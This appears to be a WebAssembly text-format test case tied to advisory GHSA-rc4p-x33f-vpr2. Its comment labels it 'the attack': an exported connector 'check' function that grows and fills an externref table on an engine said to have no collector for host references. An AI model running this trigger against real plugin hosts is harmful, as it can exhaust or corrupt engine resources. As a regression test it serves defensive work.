;; The attack: references to the host's things, for which this engine has no collector
;; (GHSA-rc4p-x33f-vpr2).
(table $things 10 externref)
(func (export "lockgate:connector/source@0.1.0#check") (param i32 i32) (result i32)
  (drop (table.grow $things (ref.null extern) (i32.const 1)))
  (table.set $things (i32.const 0) (ref.null extern))
  (i32.const 8192))
